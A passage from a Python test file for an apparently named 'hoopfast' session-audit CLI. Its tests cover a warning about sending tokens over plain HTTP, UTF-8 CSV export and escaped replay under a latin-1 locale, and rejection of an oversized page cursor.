    assert "[1e+300]" in text and "main=> SELECT 1" in text
    assert iso(1e300) == "1e+300" and iso(BASE) == "2023-11-14T22:13:20.000000Z"


def test_a_token_sent_over_plain_http_off_this_machine_is_warned_of(
    capsys: pytest.CaptureFixture[str],
) -> None:
    code = main(["audit", "sessions", "--api", "http://0.0.0.0:9", "--token", "t"])
    err = capsys.readouterr().err
    assert "warning: the token goes unencrypted to 0.0.0.0 (http://): use https://" in err
    assert code == 1  # (nothing listens there: refused at once)
    main(["audit", "sessions", "--api", "http://127.0.0.1:9", "--token", "t"])
    assert "unencrypted" not in capsys.readouterr().err


def test_csv_to_stdout_and_replay_under_a_latin1_locale(issuer: DevIssuer, tmp_path: Path) -> None:
    """A CSV export to stdout is UTF-8 whatever the locale's encoding, as a
    file export is; a replay shows what the terminal cannot encode escaped.
    Both crashed (UnicodeEncodeError) under PYTHONIOENCODING=latin-1."""
    import os
    import subprocess
    import sys

    with running_api(tmp_path, issuer, big=20) as api:
        chain = Chain("s-kanji-1")
        start = chain.append("session_start", BASE + 10, "erin", "main", "", {"groups": []})
        run_ = chain.append(
            "statement", BASE + 11, "erin", "main", "allow", {"text": "SELECT '日本'"}
        )
        api.loop.run(api.store.write_recording([start, run_], []))
        env = {**os.environ, "PYTHONIOENCODING": "latin-1", "HOOPFAST_TOKEN": api.token()}
        env.pop("HOOPFAST_API_URL", None)
        cli = [sys.executable, "-m", "hoopfast", "audit"]
        exported = subprocess.run(
            [*cli, "export", "--format", "csv", "-o", "-", "--api", api.url],
            env=env,
            capture_output=True,
            timeout=60,
        )
        assert exported.returncode == 0, exported.stderr
        assert "SELECT '日本'" in exported.stdout.decode("utf-8")
        replayed = subprocess.run(
            [*cli, "replay", "s-kanji-1", "--api", api.url],
            env=env,
            capture_output=True,
            timeout=60,
        )
        assert replayed.returncode == 0, replayed.stderr
        assert b"main=> SELECT '\\u65e5\\u672c'" in replayed.stdout
        # (A page cursor past 64 bits is refused, not an internal error.)
        assert api.get("/v1/audit/sessions/s-kanji-1", after=str(1 << 80)).status_code == 422
